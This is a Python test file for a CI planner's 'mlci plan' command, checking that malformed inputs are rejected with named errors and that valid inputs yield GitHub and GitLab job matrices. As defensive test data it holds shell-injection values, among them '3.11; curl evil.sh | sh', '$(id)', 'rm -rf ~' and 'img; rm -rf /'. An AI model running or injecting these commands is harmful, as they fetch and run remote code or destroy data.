"""`mlci plan`: every bad input is rejected with a line naming it; good inputs give jobs."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mlci.ci import plan_output
from mlci.ci.plan_output import as_json
from mlci.ci.planner import Plan, make_plan
from mlci.cli import main
from mlci.compat import load
from mlci.config.settings import resolve
from mlci.errors import ConfigError

COMPAT = load()
NEWEST = COMPAT.newest
PYTHONS = ", ".join(NEWEST.pythons)
BUILDS = ", ".join(NEWEST.cuda)


def full_project(root: Path) -> Path:
    """A project where every session has something to check (so the default runs them all)."""
    if not (root / "pyproject.toml").exists():
        (root / "pyproject.toml").write_text("[project]\nname = 'my-model'\n")
        (root / "src" / "my_model").mkdir(parents=True)
        (root / "tests").mkdir()
        (root / "tests" / "test_x.py").write_text(
            "import pytest\n\n@pytest.mark.integ\ndef test_i(): ...\n\n"
            "@pytest.mark.gpu\ndef test_g(): ...\n"
        )
        (root / "notebooks").mkdir()
        (root / "notebooks" / "n.ipynb").write_text("{}")
    return root


def plan_for(tmp_path: Path, **flags: str) -> Plan:
    """Plan from flags, as the CI front ends call it, for a project that has every session."""
    full_project(tmp_path)
    problems: list[str] = []
    names = {key.replace("_", "-"): value for key, value in flags.items()}
    found = resolve(tmp_path, names, environ={}, require_pyproject=False, problems=problems)
    return make_plan(found, problems)


def problems_for(tmp_path: Path, **flags: str) -> list[str]:
    with pytest.raises(ConfigError) as err:
        plan_for(tmp_path, **flags)
    return err.value.problems


# Each bad input, and the line that must name it (input, bad value, valid choices).
BAD_INPUTS = [
    (
        {"python_versions": "3.11,3.99"},
        f"python-versions: 3.99 is not available for torch {NEWEST.version} (has {PYTHONS})",
    ),
    (
        {"python_versions": "3.14", "torch_version": "2.5"},
        "python-versions: 3.14 is not available for torch 2.5 (has 3.9, 3.10, 3.11, 3.12, 3.13)",
    ),
    ({"python_versions": "three"}, "python-versions: 'three' is not a Python version like 3.12"),
    ({"python_versions": "[]"}, None),  # an unset array input (GitLab passes []): the default
    ({"python_versions": '["3.11",'}, "python-versions: malformed JSON array"),
    ({"torch_backend": "cu999"}, "torch-backend: cu999 is a CUDA build; CPU sessions use cpu"),
    (
        {"torch_backend": "cu128"},
        "torch-backend: cu128 is a CUDA build; CPU sessions use cpu"
        " (CUDA builds go in gpu-backends)",
    ),
    (
        {"torch_backend": "rocm6.4"},
        "torch-backend: rocm6.4 is not supported yet (use cpu, or none)",
    ),
    ({"torch_backend": "cuda"}, "torch-backend: 'cuda' is not a torch backend"),
    (
        {"gpu_backends": "cu999", "gpu_runner": "gpu"},
        f"gpu-backends: cu999 is not a CUDA build of torch {NEWEST.version} (has {BUILDS})",
    ),
    (
        {"gpu_backends": "rocm6.4", "gpu_runner": "gpu"},
        "gpu-backends: 'rocm6.4' is not a CUDA build (use cu126",
    ),
    (
        {"sessions": "unit,docs"},
        "sessions: 'docs' is not a session (choose from lint, mypy, unit, integ, nbmake, gpu)",
    ),
    ({"sessions": ""}, None),  # empty input means "not given": the default runs
    ({"sessions": "[]"}, None),
    ({"sessions": "[ ]"}, "sessions: the list is empty (choose from lint, mypy"),
    ({"sessions": "gpu"}, "gpu-runner: the gpu session needs a GPU runner"),
    ({"sessions": "unit,gpu"}, "gpu-runner: the gpu session needs a GPU runner"),
    ({"coverage_fail_under": "101"}, "coverage-fail-under: 101 is outside 0-100"),
    ({"coverage_fail_under": "-5"}, "coverage-fail-under: -5 is outside 0-100"),
    ({"coverage_fail_under": "ninety"}, "coverage-fail-under: 'ninety' is not a number"),
    ({"torch_version": "2.99"}, "torch-version: 2.99 is not a release mlci knows (knows 2.5,"),
    ({"torch_version": "latest"}, "torch-version: 'latest' is not a torch release like 2.13"),
    (
        {"working_directory": "../elsewhere"},
        "working-directory: '../elsewhere' is not a relative folder inside the project",
    ),
    ({"working_directory": "/etc"}, "working-directory: '/etc' is not a relative folder"),
    (
        {"python_versions": "3.11; curl evil.sh | sh"},
        "python-versions: '3.11; curl evil.sh | sh' is not a Python version",
    ),
    ({"python_versions": "$(id)"}, "python-versions: '$(id)' is not a Python version"),
    ({"gpu_runner": "gpu`reboot`"}, "gpu-runner: 'gpu`reboot`' is not a runner label"),
    (
        {"runner": "ubuntu-latest && rm -rf ~"},
        "runner: 'ubuntu-latest && rm -rf ~' is not a runner label",
    ),
    ({"torch_index": "https://x", "testmon": "$(id)"}, "testmon: '$(id)' is not a boolean"),
    ({"python_versions": "${{ github.token }}"}, "python-versions: '${{ github.token }}' is not"),
    ({"gpu_runner": "$[[ inputs.image ]]"}, "gpu-runner: '$[[ inputs.image ]]' is not a runner"),
    ({"sessions": "unit\nhas-gpu=true"}, "sessions: the value contains control characters"),
    ({"torch_version": "2.13\nMLCI_X=1"}, "torch-version: the value contains control characters"),
    ({"working_directory": "a" * 5000 + ";"}, "working-directory: the value is 5001 characters"),
    ({"runner": "r" * 1001}, "runner: the value is 1001 characters long (at most 1000)"),
    ({"torch_index": "$(id)"}, "torch-index: '$(id)' is not an index URL"),
    ({"torch_index": "https://mirror.example/whl/cpu?a=1;b"}, "torch-index: 'https://mirror"),
]


@pytest.mark.parametrize(
    ("flags", "expected"), BAD_INPUTS, ids=[str(i) for i in range(len(BAD_INPUTS))]
)
def test_bad_inputs_are_rejected_with_the_input_named(
    tmp_path: Path, flags: dict[str, str], expected: str | None
) -> None:
    if expected is None:
        assert plan_for(tmp_path, **flags).jobs
        return
    problems = problems_for(tmp_path, **flags)
    assert any(problem.startswith(expected) for problem in problems), problems


def test_all_problems_are_reported_at_once(tmp_path: Path) -> None:
    problems = problems_for(
        tmp_path,
        python_versions="3.11,3.99",
        torch_backend="cu128",
        coverage_fail_under="200",
        sessions="unit,gpu",
        runner="a b",
    )
    assert [p.split(":")[0] for p in problems] == [
        "runner",
        "coverage-fail-under",
        "torch-backend",
        "python-versions",
        "gpu-runner",
    ]


def test_duplicates_run_once_with_a_warning(tmp_path: Path) -> None:
    plan = plan_for(tmp_path, python_versions="3.11,3.12,3.11", sessions="unit,unit,lint")
    assert [job.session for job in plan.jobs] == ["lint", "unit-3.11", "unit-3.12"]
    assert plan.warnings == (
        "python-versions: 3.11 is listed more than once; it runs once",
        "sessions: unit is listed more than once; it runs once",
    )


def test_gpu_job_needs_a_runner_and_gets_one_leg_per_build(tmp_path: Path) -> None:
    assert plan_for(tmp_path).gpu_jobs == ()  # zero-config: no GPU job, and no error
    plan = plan_for(tmp_path, gpu_runner='["self-hosted", "gpu"]', gpu_backends="cu126,cu130")
    assert [(j.name, j.torch_backend, j.runner) for j in plan.gpu_jobs] == [
        ("gpu (cu126)", "cu126", ("self-hosted", "gpu")),
        ("gpu (cu130)", "cu130", ("self-hosted", "gpu")),
    ]
    default = plan_for(tmp_path, gpu_runner="gpu")
    assert [j.torch_backend for j in default.gpu_jobs] == [NEWEST.pypi_cuda]


def test_gpu_legs_carry_the_container_cpu_legs_run_on_the_runner(tmp_path: Path) -> None:
    plan = plan_for(
        tmp_path, gpu_runner="gpu", gpu_container="nvidia/cuda:12.8.1-runtime-ubuntu24.04"
    )
    assert {job.container for job in plan.gpu_jobs} == {"nvidia/cuda:12.8.1-runtime-ubuntu24.04"}
    assert {job.container for job in plan.jobs} == {""}
    assert problems_for(tmp_path, gpu_container="img; rm -rf /") == [
        "gpu-container: 'img; rm -rf /' is not a container image reference"
        " (e.g. nvidia/cuda:12.8.1-runtime-ubuntu24.04)"
    ]


def test_legs_that_run_tests_cache_what_they_download(tmp_path: Path) -> None:
    (tmp_path / "models.txt").write_text("acme/tiny\n")
    plan = plan_for(tmp_path, downloads_key="models.txt", working_directory=".")
    legs = {job.session.split("-")[0]: job for job in plan.jobs}  # unit-<the running Python>
    assert (legs["unit"].downloads, legs["unit"].downloads_key) == (
        ".mlci-downloads",
        "models.txt",
    )
    assert legs["integ"].downloads and legs["nbmake"].downloads
    assert legs["lint"].downloads == legs["mypy"].downloads == ""  # no tests, no downloads


def test_test_legs_carry_the_quarantines_history(tmp_path: Path) -> None:
    full_project(tmp_path)
    (tmp_path / "quarantine.toml").write_text("")
    plan = plan_for(tmp_path, quarantine="quarantine.toml", testmon="true")
    legs = {job.session.split("-")[0]: job for job in plan.jobs}  # unit-<the running Python>
    # testmon's data and the passes in a row, one cache entry per leg (GitHub: a path list).
    assert legs["unit"].carry.splitlines() == [".testmondata", ".mlci-carry/quarantine.json"]
    assert legs["integ"].carry == ".mlci-carry/quarantine.json"
    assert legs["lint"].carry == ""


def test_image_mode_is_one_leg_per_image_and_never_the_hosts_python(tmp_path: Path) -> None:
    ngc = "nvcr.io/nvidia/pytorch:25.09-py3"
    plan = plan_for(tmp_path, gpu_runner="gpu", gpu_torch="image", gpu_container=ngc)
    [leg] = plan.gpu_jobs
    assert (leg.name, leg.container, leg.id) == ("gpu (image)", ngc, "gpu-image")
    # The leg names no CUDA build: the image's torch is the one it uses.
    assert leg.as_dict()["gpu-backends"] == ""
    assert problems_for(
        tmp_path,
        gpu_runner="gpu",
        gpu_torch="image",
        gpu_container=ngc,
        gpu_backends="cu126,cu130,cu132",
    ) == [
        "gpu-backends: cu126, cu130, cu132 would be 3 identical legs: with gpu-torch = image the"
        " image's torch decides the CUDA build, one leg per image; give at most one, or use"
        " gpu-torch = build"
    ]
    [refused] = problems_for(tmp_path, gpu_runner="gpu", gpu_torch="image")
    assert refused.startswith("gpu-torch = image: without gpu-container the gpu leg uses")
    assert "gpu-runner-ephemeral: true" in refused
    thrown_away = plan_for(
        tmp_path, gpu_runner="gpu", gpu_torch="image", gpu_runner_ephemeral="true"
    )
    assert [job.id for job in thrown_away.gpu_jobs] == ["gpu-image"]


def test_gpu_runner_without_gpu_session_warns(tmp_path: Path) -> None:
    plan = plan_for(tmp_path, gpu_runner="gpu", sessions="unit")
    assert plan.gpu_jobs == ()
    assert plan.warnings == ("gpu-runner is given but no GPU job runs: sessions has no gpu",)


def test_unset_sessions_are_those_with_something_to_check(tmp_path: Path) -> None:
    """The default leaves out what has nothing to check, saying why; a list is taken as is."""
    (tmp_path / "pyproject.toml").write_text("[project]\nname = 'my-model'\n")
    (tmp_path / "src" / "my_model").mkdir(parents=True)
    (tmp_path / "tests").mkdir()
    (tmp_path / "tests" / "test_a.py").write_text("def test_a(): ...\n")
    problems: list[str] = []
    settings = resolve(tmp_path, {}, environ={}, problems=problems)
    plan = make_plan(settings, problems)
    assert [job.session for job in plan.jobs] == ["lint", "mypy", f"unit-{settings.main_python}"]
    assert plan.choice.left_out == {
        "integ": "no test under tests/ is marked integ (@pytest.mark.integ)",
        "nbmake": "no notebooks under notebooks/ (set notebooks)",
        "gpu": "no test under tests/ is marked gpu (@pytest.mark.gpu)",
    }
    # GitLab made a job per session already: one that has nothing to check is an error there.
    with pytest.raises(ConfigError) as err:
        make_plan(settings, [], static_jobs=True)
    assert err.value.problems == [
        f"sessions: {name} has nothing to check ({why}), but the template has a job for it:"
        " list the sessions to run in the template's `sessions` input"
        for name, why in plan.choice.left_out.items()
        if name != "gpu"
    ]
    listed = resolve(tmp_path, {"sessions": "unit,nbmake"}, environ={})
    with pytest.raises(ConfigError, match=r"^nbmake: nothing to check: no notebooks under"):
        make_plan(listed)


def test_projects_without_torch_accept_any_python(tmp_path: Path) -> None:
    plan = plan_for(tmp_path, torch_backend="none", python_versions="3.8,3.16")
    assert [job.session for job in plan.jobs if job.session.startswith("unit")] == [
        "unit-3.8",
        "unit-3.16",
    ]


def test_pyproject_settings_are_planned(write_project) -> None:  # type: ignore[no-untyped-def]
    root = write_project("python-versions = ['3.12', '3.11']\nsessions = ['unit', 'lint']\n")
    (root / "src" / "my_model").mkdir(parents=True)
    (root / "tests").mkdir()
    (root / "tests" / "test_a.py").write_text("def test_a(): ...\n")
    plan = make_plan(resolve(root, environ={}))
    assert [job.name for job in plan.jobs] == ["lint", "unit (3.12)", "unit (3.11)"]
    assert plan.jobs[0].python == "3.12"  # the first version runs the single-Python sessions


def test_github_output(tmp_path: Path) -> None:
    plan = plan_for(tmp_path, python_versions="3.11,3.12", gpu_runner="gpu", runner="linux-4core")
    lines = dict(line.split("=", 1) for line in plan_output.github(plan).splitlines())
    legs = {leg["id"]: leg for leg in json.loads(lines["matrix"])["include"]}
    assert list(legs) == [
        "lint",
        "mypy",
        "unit-3.11",
        "unit-3.12",
        "integ",
        "nbmake",
        f"gpu-{NEWEST.pypi_cuda}",
    ]
    assert legs["unit-3.12"] == {
        "id": "unit-3.12",
        "key": "unit-3.12",
        "reports": "mlci-reports/unit-3.12",
        "shard": "",
        "durations": "",
        "cache-mb": 400,
        "name": "unit (3.12)",
        "session": "unit-3.12",
        "python": "3.12",
        "torch-backend": "cpu",
        "gpu-backends": "",
        "runs-on": ["linux-4core"],
        "container": "",
        "timeout-minutes": 60,
        "session-timeout-minutes": 55,
        "carry": "",  # testmon is off
        "test-map": "",  # gpu-select is off
        "test-map-key": "",
        "downloads": "",  # downloads-key is unset
        "downloads-key": "",
        "unit-tests": "",  # unit-select is off
    }
    gpu = legs[f"gpu-{NEWEST.pypi_cuda}"]
    assert (gpu["session"], gpu["gpu-backends"], gpu["runs-on"]) == (
        "gpu",
        NEWEST.pypi_cuda,
        ["gpu"],
    )
    assert gpu["timeout-minutes"] > legs["lint"]["timeout-minutes"]
    assert lines["has-gpu"] == "true" and lines["python"] == "3.11"
    assert json.loads(lines["sessions"]) == ["lint", "mypy", "unit", "integ", "nbmake", "gpu"]
    default_runner = plan_output.github(plan_for(tmp_path)).splitlines()[0].split("=", 1)[1]
    assert json.loads(default_runner)["include"][0]["runs-on"] == ["ubuntu-latest"]


def test_plan_summary_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(full_project(tmp_path))
    summary = tmp_path / "summary.md"
    assert main(["plan", "--summary", str(summary), "--format", "json"]) == 0
    assert summary.read_text().startswith("### mlci plan\n\n```\ntorch ")
    assert main(["plan", "--summary", str(summary), "--python-versions", "2.7"]) == 2
    assert "### ❌ mlci plan rejected the inputs\n\n- python-versions: '2.7'" in summary.read_text()


def test_gitlab_dotenv_holds_the_resolved_values(tmp_path: Path) -> None:
    plan = plan_for(
        tmp_path, python_versions='["3.12", "3.11", "3.12"]', coverage_fail_under="75.5"
    )
    env = dict(line.split("=", 1) for line in plan_output.gitlab(plan).splitlines())
    assert env["MLCI_PYTHON_VERSIONS"] == "3.12,3.11"
    assert env["MLCI_COVERAGE_FAIL_UNDER"] == "75.5"
    assert env["MLCI_TORCH_VERSION"] == NEWEST.version
    assert env["MLCI_PLAN_HAS_GPU"] == "false"
    assert "MLCI_TORCH_INDEX" not in env  # empty values are left out


def test_table_names_every_job(tmp_path: Path) -> None:
    text = plan_output.table(plan_for(tmp_path, python_versions="3.11,3.12"))
    assert text.startswith(f"torch {NEWEST.version}: Python")
    for name in ("lint", "unit (3.11)", "unit (3.12)", "nbmake"):
        assert re.search(rf"^{re.escape(name)}\s", text, re.M)
    assert "(no GPU job: give gpu-runner to add one)" in text


def test_cli_plan_exit_codes_and_output_file(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(full_project(tmp_path))
    monkeypatch.delenv("GITHUB_ACTIONS", raising=False)
    out = tmp_path / "github_output"
    out.write_text("earlier=kept\n")
    assert (
        main(["plan", "--format", "github", "--output", str(out), "--python-versions", "3.11"]) == 0
    )
    text = out.read_text()
    assert text.startswith("earlier=kept\nmatrix=")
    assert main(["plan", "--python-versions", "3.99", "--sessions", "lint,docs"]) == 2
    err = capsys.readouterr().err.splitlines()
    assert err == [
        "mlci: error: sessions: 'docs' is not a session"
        " (choose from lint, mypy, unit, integ, nbmake, gpu)",
        f"mlci: error: python-versions: 3.99 is not available for torch {NEWEST.version}"
        f" (has {PYTHONS})",
    ]
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    assert main(["plan", "--python-versions", "3.99"]) == 2
    assert capsys.readouterr().err.startswith("::error title=mlci::python-versions: 3.99")


def test_cli_plan_reads_env_and_explains(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(full_project(tmp_path))
    monkeypatch.setenv("MLCI_PYTHON_VERSIONS", '["3.12"]')
    monkeypatch.setenv("MLCI_TESTMON", "")  # an unset CI input
    assert main(["plan", "--explain", "--format", "json"]) == 0
    text = capsys.readouterr().out
    data = json.loads(text[: text.index("\nsettings\n")])
    assert data["settings"]["python-versions"] == ["3.12"]
    assert 'python-versions      ["3.12"]' in text
    assert "environment (MLCI_PYTHON_VERSIONS)" in text


def test_plan_is_fast_and_imports_neither_torch_nor_nox(tmp_path: Path) -> None:
    code = (
        "import sys; from mlci.cli import main; main(['plan', '--format', 'json']);"
        "print(sorted(m for m in ('nox', 'torch') if m in sys.modules), file=sys.stderr)"
    )
    done = subprocess.run(
        [sys.executable, "-c", code],
        cwd=full_project(tmp_path),
        capture_output=True,
        text=True,
        check=True,
    )
    assert done.stderr.strip() == "[]"


def test_compat_table_is_consistent() -> None:
    for release in COMPAT.releases.values():
        assert release.pypi_cuda in release.cuda, release.version
        assert list(release.pythons) == sorted(
            release.pythons, key=lambda v: tuple(map(int, v.split(".")))
        )
        for build in release.cuda:
            assert COMPAT.driver_for(build), build
    assert COMPAT.driver_for("cu130") == "580.65.06"
    assert COMPAT.driver_for("cu126") == "525.60.13"
    assert COMPAT.release("2.13.1") is COMPAT.releases["2.13"]


# --- properties -------------------------------------------------------------------------------

SAFE = re.compile(r"[A-Za-z0-9_.,:/\[\]{}\"= ()-]*")  # "()": job names such as "unit (3.11)"


@st.composite
def valid_inputs(draw: st.DrawFn) -> dict[str, str]:
    release = draw(st.sampled_from(sorted(COMPAT.releases)))
    torch = COMPAT.releases[release]
    pythons = draw(st.lists(st.sampled_from(torch.pythons), min_size=1, max_size=4))
    sessions = draw(
        st.lists(st.sampled_from(["lint", "mypy", "unit", "integ", "nbmake"]), min_size=1)
    )
    as_json = draw(st.booleans())
    inputs = {
        "torch_version": release,
        "python_versions": json.dumps(pythons) if as_json else ",".join(pythons),
        "sessions": ",".join(sessions),
        "coverage_fail_under": str(draw(st.integers(0, 100))),
    }
    if draw(st.booleans()):
        inputs["gpu_runner"] = ",".join(
            draw(
                st.lists(
                    st.from_regex(r"[a-z][a-z0-9-]{0,10}", fullmatch=True), min_size=1, max_size=3
                )
            )
        )
        inputs["gpu_backends"] = ",".join(draw(st.lists(st.sampled_from(torch.cuda), min_size=1)))
        inputs["sessions"] += ",gpu"
    return inputs


@settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(inputs=valid_inputs())
def test_valid_inputs_give_a_matrix_both_front_ends_accept(
    tmp_path: Path, inputs: dict[str, str]
) -> None:
    plan = plan_for(tmp_path, **inputs)
    assert plan.jobs or plan.gpu_jobs
    github = dict(line.split("=", 1) for line in plan_output.github(plan).splitlines())
    include = json.loads(github["matrix"])["include"]
    assert len(include) == len(plan.jobs) + len(plan.gpu_jobs) <= 256  # GitHub's matrix limit
    assert (
        len({leg["id"] for leg in include}) == len({leg["name"] for leg in include}) == len(include)
    )
    for leg in include:
        assert set(leg) == {
            "shard",
            "durations",
            "test-map",
            "test-map-key",
            "downloads",
            "downloads-key",
            "unit-tests",
            "cache-mb",
            "key",
            "reports",
            "session-timeout-minutes",
            "carry",
            "id",
            "name",
            "session",
            "python",
            "torch-backend",
            "gpu-backends",
            "runs-on",
            "container",
            "timeout-minutes",
        }
        assert leg["runs-on"] and all(isinstance(label, str) for label in leg["runs-on"])
    for line in plan_output.gitlab(plan).splitlines():
        assert re.fullmatch(r"MLCI_[A-Z_]+=[A-Za-z0-9_.,:/-]+", line), line
    data = as_json(plan)
    assert json.loads(json.dumps(data)) == data


@settings(
    max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    name=st.sampled_from(
        [
            "python_versions",
            "sessions",
            "gpu_runner",
            "runner",
            "gpu_backends",
            "torch_backend",
            "torch_version",
            "working_directory",
            "coverage_fail_under",
        ]
    ),
    value=st.text(max_size=30),
)
def test_any_text_is_rejected_or_passed_on_as_plain_data(
    tmp_path: Path, name: str, value: str
) -> None:
    """Shell metacharacters never reach an output: the planner rejects them first."""
    try:
        plan = plan_for(tmp_path, **{name: value})
    except ConfigError as err:
        problems = err.problems
    else:
        problems = []
    if problems:
        return
    for text in (plan_output.github(plan), plan_output.gitlab(plan)):
        for line in text.splitlines():
            assert SAFE.fullmatch(line), line


def test_testmon_unit_legs_carry_its_data_from_run_to_run(tmp_path: Path) -> None:
    plan = plan_for(
        tmp_path, python_versions="3.11,3.12", testmon="true", working_directory="models/mlp"
    )
    carried = {job.id: job.carry for job in plan.jobs}
    assert carried["unit-3.11"] == carried["unit-3.12"] == "models/mlp/.testmondata"
    assert carried["lint"] == carried["mypy"] == ""
    root = plan_for(tmp_path, testmon="true")
    assert {job.carry for job in root.jobs if job.session.startswith("unit")} == {".testmondata"}


def test_legs_of_a_project_in_a_folder_name_it_in_reports_and_keys(tmp_path: Path) -> None:
    """Two calls in one run (a monorepo) must not collide in artifact or cache names."""
    plan = plan_for(tmp_path, working_directory="models/mlp", python_versions="3.11")
    unit = next(job for job in plan.jobs if job.id == "unit-3.11")
    assert unit.reports == "models/mlp/mlci-reports/unit-3.11"
    assert unit.key == "models-mlp-unit-3.11"
    named = plan_for(tmp_path, working_directory="models/mlp", call_id="gpu-box")
    assert {job.key.split("-unit")[0] for job in named.jobs if job.id.startswith("unit")} == {
        "gpu-box"
    }


def test_requires_python_excludes_versions_by_name(tmp_path: Path) -> None:
    full_project(tmp_path)
    path = tmp_path / "pyproject.toml"
    path.write_text(path.read_text() + "requires-python = '>=3.12'\n")
    assert problems_for(tmp_path, python_versions="3.10,3.11,3.12") == [
        "python-versions: 3.10 is excluded by requires-python >=3.12 in pyproject.toml",
        "python-versions: 3.11 is excluded by requires-python >=3.12 in pyproject.toml",
    ]
    path.write_text(path.read_text().replace(">=3.12", ">=3.10.2"))
    assert plan_for(tmp_path, python_versions="3.10").python_versions == ("3.10",)
